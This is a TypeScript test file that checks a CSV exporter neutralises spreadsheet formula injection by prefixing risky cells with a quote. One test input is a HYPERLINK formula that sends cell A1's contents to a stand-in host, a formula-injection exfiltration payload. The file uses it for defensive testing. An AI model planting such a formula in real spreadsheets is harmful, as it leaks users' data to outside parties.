import { describe, expect, it } from 'vitest';
import { parseCsv, toCsv } from './csv';

describe('toCsv: safe to open in Excel', () => {
  it('writes a text cell that would start a formula with a leading quote, and leaves numbers alone', () => {
    const text = toCsv(['antwoord', 'aantal'], [
      ['=HYPERLINK("http://x.example/?"&A1;"klik")', 1],
      ['-2+3', -1.5],
      ['+31 6 12345678', 0],
      ['@SUM(A1:A2)', 2],
      ['\tverborgen', null],
      ['\r=1+1', undefined],
      ['gewoon - met streepje', '3.50'],
      ['', 7],
    ]);
    expect(text).toBe(
      'antwoord;aantal\r\n' +
        `"'=HYPERLINK(""http://x.example/?""&A1;""klik"")";1\r\n` +
        "'-2+3;-1.5\r\n" +
        "'+31 6 12345678;0\r\n" +
        "'@SUM(A1:A2);2\r\n" +
        "'\tverborgen;\r\n" +
        `"'\r=1+1";\r\n` +
        'gewoon - met streepje;3.50\r\n' +
        ';7\r\n',
    );
  });

  it('a neutralised cell reads back as text with its quote, the rest unchanged', () => {
    const { rows } = parseCsv(toCsv(['a', 'b'], [['=1+1', 'Zoë; "de" Vries']]));
    expect(rows[0].values).toEqual({ a: "'=1+1", b: 'Zoë; "de" Vries' });
  });
});
